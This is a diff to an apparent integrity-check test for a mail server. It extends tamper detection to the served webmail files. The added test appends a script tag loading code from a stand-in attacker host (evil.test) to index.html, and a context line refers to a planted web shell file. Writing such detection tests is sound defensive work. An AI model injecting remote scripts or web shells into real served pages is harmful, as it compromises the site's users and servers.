@@ -21,7 +21,7 @@ describe('LG-05: the integrity of the server code', () => {
   let server: RunningServer | null = null;
   before(() => {
     code = mkdtempSync(join(tmpdir(), 'portcullis-code-'));
-    for (const p of ['bin', 'src', 'package.json', 'package-lock.json', 'tsconfig.json'])
+    for (const p of ['bin', 'src', 'webmail/dist', 'package.json', 'package-lock.json', 'tsconfig.json'])
       cpSync(join(ROOT, p), join(code, p), { recursive: true });
     symlinkSync(join(ROOT, 'node_modules'), join(code, 'node_modules'));
     data = makeDataDir({ domains: ['example.test'], config: '[audit]\nintegrityCheckSeconds = 1' });
@@ -63,10 +63,12 @@ describe('LG-05: the integrity of the server code', () => {
     await server.stop();
 
     appendFileSync(join(code, 'src/web/app.ts'), '\n// changed while stopped\n');
+    // The webmail the server serves is covered too.
+    appendFileSync(join(code, 'webmail/dist/index.html'), '<script src="https://evil.test/x.js"></script>');
     server = await start();
     const atStart = alerts().find((a) => a.severity === 'medium');
     assert.equal(atStart?.kind, 'integrity');
-    assert.equal(atStart?.detail['changed'], 'src/web/app.ts');
+    assert.equal(atStart?.detail['changed'], 'src/web/app.ts webmail/dist/index.html');
     assert.equal(atStart?.detail['added'], 'src/web/errors.aspx.js', 'the shell is still there: said again');
     const audit = cliOk(data.path, ['audit', 'search', '--action', 'system.integrity']);
     assert.equal(audit.trim().split('\n').length, 3, audit);
